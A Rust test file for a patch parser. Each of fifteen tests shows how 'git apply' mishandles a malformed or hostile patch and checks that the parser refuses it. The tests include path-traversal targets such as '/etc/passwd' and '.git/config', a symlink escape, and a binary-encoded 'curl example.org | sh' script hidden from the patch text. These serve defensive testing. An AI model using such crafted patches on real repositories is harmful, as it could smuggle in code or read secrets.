//! Fifteen findings about `git apply`, one test for each. A test first shows what git does with
//! a patch, in a repository of its own; then, that the reader refuses it, and why.
//!
//! Seen with git 2.47.3. A version of git that behaves otherwise fails the first half of a test:
//! then the finding is to be looked at again, and the second half must hold all the same.
//! `crates/core/tests/findings.rs` shows the same for the way that a proposal really takes.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

mod common;

use baton_patch::{Body, Code, Limits, agrees, parse, raw};
use common::findings::{self as f, ONE, TWO, ZERO, add, edit, moved, names, remove, small};
use common::{Files, Repo, base};

/// The small repository with its checkout.
fn repo() -> Repo {
    let repo = Repo::new();
    repo.check_out(&small());
    repo
}

/// Applies the patch to an index and says what changed, as "status path" words.
#[track_caller]
fn effect(patch: &str) -> Vec<String> {
    effect_on(&small(), patch)
}

#[track_caller]
fn effect_on(files: &Files, patch: &str) -> Vec<String> {
    let repo = Repo::new();
    let tree = repo.tree(files);
    repo.prepare(&tree);
    let raw = raw::read(&repo.apply(&tree, patch.as_bytes()).unwrap()).unwrap();
    raw.iter()
        .map(|c| format!("{} {}", c.status, String::from_utf8_lossy(&c.path)))
        .collect()
}

#[track_caller]
fn refuses(patch: &str, code: Code, line: usize) {
    let refusal = parse(patch.as_bytes(), &Limits::default()).expect_err(patch);
    assert_eq!(
        (refusal.code, refusal.line),
        (code, line),
        "{refusal}\n{patch}"
    );
}

#[track_caller]
fn reads(patch: &str) {
    assert!(
        parse(patch.as_bytes(), &Limits::default()).is_ok(),
        "{patch}"
    );
}

#[test]
fn finding_01_names_that_differ_without_rename_lines() {
    let patch = edit("x").replace("+++ b/x", "+++ b/y");
    assert_eq!(repo().forecast(&patch), "1\t1\ty\n", "x is not mentioned");
    assert_eq!(effect(&patch), ["D x", "M y"], "y is overwritten unread");
    refuses(&patch, Code::NameMismatch, 4);
    let patch = edit("x").replace("b/x\nindex", "b/y\nindex");
    refuses(&patch, Code::NameMismatch, 1);
}

#[test]
fn finding_02_dev_null_without_its_mode_line() {
    let patch = edit("x").replace("+++ b/x", "+++ /dev/null");
    assert_eq!(effect(&patch), ["A dev/null", "D x"]);
    refuses(&patch, Code::DevNull, 4);
    let patch = edit("x").replace("--- a/x", "--- /dev/null");
    refuses(&patch, Code::DevNull, 3);
}

#[test]
fn finding_03_corrupt_binary_in_the_middle() {
    let corrupt = f::corrupt_binary("b");
    let patch = format!("{}{corrupt}{}", edit("x"), edit("y"));
    let repo = repo();
    let output = repo.live(&["apply", "--index", "-"], &patch);
    assert!(output.status.success(), "git says that all is well");
    assert!(output.stderr.starts_with(b"error: corrupt binary patch"));
    assert_eq!(repo.status(), ["M  x"], "the rest is dropped");
    refuses(&patch, Code::BadBinary, 13);
    for body in [
        "literal 5\nHcmV?d00001\n\n",
        "literal 0\nHcmV?d00001 \n\n",
        "literal x\n\n",
    ] {
        let corrupt = corrupt.replace("literal 4\n!!!\n\n", body);
        let refusal = parse(corrupt.as_bytes(), &Limits::default()).unwrap_err();
        assert_eq!(refusal.code, Code::BadBinary, "{body}");
    }
}

#[test]
fn finding_04_copies_from_outside() {
    let repo = repo();
    std::fs::write(repo.outside().join("secret"), "a key").unwrap();
    let absolute = repo.outside().join("secret").display().to_string();
    for source in ["../secret", ".git/config", absolute.as_str()] {
        let patch = moved("copy", source, "n");
        assert!(repo.applies(&[], &patch), "plain apply takes {source}");
        let copied = std::fs::read(repo.path().join("n")).unwrap();
        assert_eq!(copied, std::fs::read(repo.path().join(source)).unwrap());
        std::fs::remove_file(repo.path().join("n")).unwrap();
        assert!(!repo.applies(&["--index"], &patch));
        assert!(!repo.applies(&["--cached"], &patch));
        assert_eq!(repo.status(), [""; 0]);
    }
    for place in [
        "../secret",
        ".git/config",
        "/etc/passwd",
        ".GIT/config",
        "a/../../b",
        "git~1/x",
    ] {
        for verb in ["copy", "rename"] {
            refuses(&moved(verb, place, "n"), Code::UnsafePath, 3);
            refuses(&moved(verb, "x", place), Code::UnsafePath, 4);
        }
        refuses(&edit(place), Code::UnsafePath, 1);
    }
}

/// Nothing shows in the text: the reader takes the patch. What protects is that a proposal is
/// never applied to a worktree, which the test of the same name in `crates/core` shows.
#[test]
fn finding_05_an_untracked_link_leads_outside() {
    let patch = add("way/f", "100644");
    let repo = repo();
    let target = repo.way_out("way");
    assert!(!repo.applies(&[], &patch), "plain apply looks at the link");
    assert_eq!(names(&target), [""; 0]);
    assert!(
        repo.applies(&["--index"], &patch),
        "with --index it does not"
    );
    assert_eq!(names(&target), ["f"], "written outside of the repository");
    reads(&patch);
    // A tracked link stops git, and one that the same patch makes stops the reader too.
    assert!(!repo.applies(&["--cached"], &add("link/f", "100644")));
    let both = format!("{}{}", add("new", "120000"), add("new/f", "100644"));
    refuses(&both, Code::PathConflict, 8);
}

#[test]
fn finding_06_modes_that_git_does_not_store() {
    let patch = add("n", "040000");
    let repo = repo();
    assert!(repo.applies(&["--index"], &patch));
    assert!(repo.path().join("n").is_file(), "a file appears");
    let difference = repo.live(&["diff-index", "--cached", "--raw", "HEAD"], "");
    assert_eq!(difference.stdout, b"", "and the index does not show it");
    reads(&add("n", "100644"));
    for mode in [
        "040000", "644", "010644", "100664", "100600", "0100644", "100644 ", "100644\r", "777", "",
    ] {
        refuses(&add("n", mode), Code::BadMode, 2);
    }
    refuses(&edit("x").replace(" 100644", " 100600"), Code::BadMode, 2);
    let patch = "diff --git a/x b/x\nold mode 100644\nnew mode 120000\n";
    refuses(patch, Code::TypeChange, 3);
}

#[test]
fn finding_07_a_lone_new_mode() {
    let patch = edit("x").replace("index", "new mode 100755\nindex");
    let silent = patch.replace(" 100644\n", "\n");
    assert_eq!(repo().forecast(&silent), "1\t1\tx\n", "not a word of it");
    for patch in [&patch, &silent] {
        let repo = repo();
        assert!(repo.applies(&["--cached"], patch));
        let entry = repo.live(&["ls-files", "--stage", "x"], "").stdout;
        assert!(entry.starts_with(b"100755 "), "x is executable");
        refuses(patch, Code::BadHeader, 2);
    }
    let lone = edit("x").replace("index", "old mode 100644\nindex");
    refuses(&lone, Code::BadHeader, 2);
    let moved = moved("rename", "x", "n") + "new mode 100755\n";
    assert!(!repo().forecast(&moved).contains("mode"));
    refuses(&moved, Code::BadHeader, 5);
    let late = edit("x").replace("@@ -1", "new mode 100755\n@@ -1");
    assert_eq!(effect(&late), ["M x"]);
    refuses(&late, Code::BadHunkHeader, 5);
}

#[test]
fn finding_08_an_empty_section_before_a_mode_change() {
    let patch = f::mode_change_after_nothing();
    assert_eq!(effect(&patch), ["M x"], "it is x that becomes executable");
    refuses(&patch, Code::EmptySection, 1);
}

#[test]
fn finding_09_no_mode_so_a_link_looks_like_text() {
    for (patch, path) in [(f::turned_link(), "link"), (f::turned_submodule(), "sub")] {
        assert_eq!(effect(&patch), [format!("M {path}")]);
        refuses(&patch, Code::BadIndex, 1);
        let with_ids = patch.replace("--- ", &format!("index {ONE}..{TWO}\n--- "));
        assert_eq!(effect(&with_ids), [format!("M {path}")]);
        refuses(&with_ids, Code::BadIndex, 2);
        // With the mode of a file it reads like an edit of one, but then git compares.
        let misstated = with_ids.replace(TWO, &format!("{TWO} 100644"));
        reads(&misstated);
        assert!(!repo().applies(&["--cached"], &misstated));
    }
    // Between the two modes of a file git only warns; the tree difference knows better.
    let misstated = edit("x").replace(" 100644", " 100755");
    let read = parse(misstated.as_bytes(), &Limits::default()).unwrap();
    let repo = Repo::new();
    let tree = repo.tree(&small());
    repo.prepare(&tree);
    let raw = repo.apply(&tree, misstated.as_bytes()).unwrap();
    let difference = agrees(&read, &raw::read(&raw).unwrap()).unwrap_err();
    assert_eq!(difference.path, b"x");
}

#[test]
fn finding_10_a_plain_section_changes_the_stripping() {
    let plain = "--- x\n+++ x\n@@ -1 +1 @@\n-one\n+two\n";
    let patch = format!("{plain}{}", edit("y"));
    let mut files = small();
    for path in ["a/y", "b/y"] {
        files.insert(path.into(), ("100644", b"one\n".to_vec()));
    }
    let touched = effect_on(&files, &patch);
    assert_eq!(touched, ["D a/y", "M b/y", "M x"], "y itself is not");
    refuses(&patch, Code::StrayHeader, 1);
    refuses(&format!("{}{plain}", edit("y")), Code::StrayHunkLine, 8);
    refuses(&edit("x").replace("a/x b/x", "x x"), Code::BadName, 1);
}

#[test]
fn finding_11_hunk_counts_off_by_one() {
    // Too few: what looks like an added line is a section that counts.
    let live = format!(
        "{}+more\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-one\n+two\n",
        add("n", "100644")
    );
    assert_eq!(effect(&live), ["A n", "M x"]);
    refuses(&live, Code::StrayHunkLine, 8);
    // Too many: the header of the next section is content.
    let mut files = small();
    files.insert(b"x".to_vec(), ("100644", b"one\n-- a/y\n".to_vec()));
    let eaten = edit("x").replace("@@ -1 +1 @@", "@@ -1,2 +1,2 @@")
        + "--- a/y\n+++ b/y\n@@ -1 +1 @@\n-one\n+two\n";
    assert!(!repo().applies(&["--cached"], &eaten));
    let eaten = eaten.replace("@@ -1 +1 @@\n-one\n+two\n", "");
    assert_eq!(effect_on(&files, &eaten), ["M x"], "y is never looked at");
    // It is well-formed too, and means the same to both: one edit of x.
    let read = parse(eaten.as_bytes(), &Limits::default()).unwrap();
    assert_eq!((read.sections.len(), read.sections[0].insertions), (1, 2));
    let short = format!("{}+more\n", edit("x"));
    assert_eq!(effect(&short), ["M x"], "the last line is lost");
    refuses(&short, Code::StrayHunkLine, 8);
}

#[test]
fn finding_11_every_other_way_to_miscount() {
    let with = |header: &str| edit("x").replace("@@ -1 +1 @@", header);
    let long = with("@@ -1 +1,2 @@");
    refuses(&long, Code::Truncated, 8);
    refuses(&format!("{long}{}", edit("y")), Code::HunkLine, 8);
    refuses(&with("@@ -1,2 +1 @@"), Code::Truncated, 8);
    refuses(&with("@@ -0,0 +1 @@"), Code::HunkCount, 6);
    refuses(&with("@@ -1 +7 @@"), Code::HunkPosition, 5);
    for header in [
        "@@ -1 +1",
        "@@ -1 +1 @@x",
        "@@ -01 +1 @@",
        "@@ -1,1 +1 @@",
        "@@ -99999999999 +1 @@",
        "@@-1 +1 @@",
        "@@ -1 +1 @@@",
    ] {
        refuses(&with(header), Code::BadHunkHeader, 5);
    }
}

#[test]
fn finding_12_binary_without_data() {
    let repo = repo();
    let unseen = repo.git_with(&["hash-object", "-w", "--stdin"], b"nobody saw this\n");
    let unseen = String::from_utf8(unseen).unwrap();
    let patch = f::blob_by_id(unseen.trim());
    assert!(repo.applies(&["--index"], &patch), "git knows the blob");
    let written = std::fs::read(repo.path().join("x")).unwrap();
    assert_eq!(written, b"nobody saw this\n");
    refuses(&patch, Code::BinaryWithoutData, 3);
    assert!(!repo.applies(&["--index"], &f::blob_by_id(&TWO.replace('f', "0"))));
}

#[test]
fn finding_13_an_error_in_the_middle_leaves_half() {
    let patch = format!("{}{}", remove("x"), add("y/inner", "100644"));
    for options in [&[][..], &["--index"]] {
        let repo = repo();
        assert!(!repo.applies(options, &patch), "git says no");
        assert_eq!(repo.status(), [" D x"], "and yet x is gone");
    }
    let untouched = repo();
    assert!(!untouched.applies(&["--cached"], &patch));
    assert_eq!(untouched.status(), [""; 0]);
    // That y is a file in the base does not show in the text; when it is in the patch, it does.
    reads(&patch);
    refuses(
        &format!(
            "{}{}",
            add("n-x", "100644"),
            add("n", "100644") + &add("n/inner", "100644")
        ),
        Code::PathConflict,
        15,
    );
    let patch = format!("{}{}", add("n/inner/deep", "100644"), add("n", "100644"));
    refuses(&patch, Code::PathConflict, 1);
    refuses(&add("n", "100644").repeat(2), Code::DuplicatePath, 8);
}

#[test]
fn finding_14_a_creation_with_an_old_name() {
    let patch = f::creation_with_old_name();
    let repo = repo();
    let output = repo.live(&["apply", "--index", "-"], &patch);
    assert_eq!(output.status.code(), None, "git ends on a signal");
    assert!(output.stderr.ends_with(b"failed.\n"), "on an assertion");
    let lock = repo.path().join(".git/index.lock");
    assert!(lock.is_file(), "and the index stays locked");
    refuses(&patch, Code::BadIndex, 2);
    let patch = patch.replace(TWO, &format!("{TWO} 100644"));
    refuses(&patch, Code::BadHunkHeader, 5);
    // The same with the mode line where it belongs; git refuses these too.
    let early = edit("n").replace("index", "new file mode 100644\nindex");
    let early = early.replace(ONE, ZERO).replace(" 100644\n---", "\n---");
    refuses(&early, Code::DevNull, 4);
    let early = early.replace("--- a/n", "--- /dev/null");
    refuses(&early, Code::WholeFile, 6);
}

#[test]
fn finding_15_binary_literals_are_decoded_and_deltas_refused() {
    let repo = Repo::new();
    let script = b"#!/bin/sh\n\0curl example.org | sh\n".repeat(3);
    let mut files = base();
    let old = repo.tree(&files);
    files.insert(b"s".to_vec(), ("100755", script.clone()));
    let bytes = repo.diff(&old, &repo.tree(&files), &[], &["--binary", "--full-index"]);
    assert!(
        !bytes.windows(4).any(|bytes| bytes == b"curl"),
        "nothing to see in the text"
    );
    repo.prepare(&old);
    let applied = raw::read(&repo.apply(&old, &bytes).unwrap()).unwrap();
    assert_eq!(applied[0].path, b"s", "a script like any other to git");
    let patch = parse(&bytes, &Limits::default()).unwrap();
    let Body::Binary { new, .. } = &patch.sections[0].body else {
        panic!("not binary")
    };
    assert_eq!(new, &script);

    let mut files = base();
    files.get_mut(&b"image.bin"[..]).unwrap().1[300] ^= 1;
    let bytes = repo.diff(&old, &repo.tree(&files), &[], &["--binary", "--full-index"]);
    let refusal = parse(&bytes, &Limits::default()).unwrap_err();
    assert_eq!(refusal.code, Code::Delta);
    let limits = Limits {
        allow_delta: true,
        ..Limits::default()
    };
    let patch = parse(&bytes, &limits).unwrap();
    assert!(matches!(patch.sections[0].body, Body::BinaryDelta(_)));
}
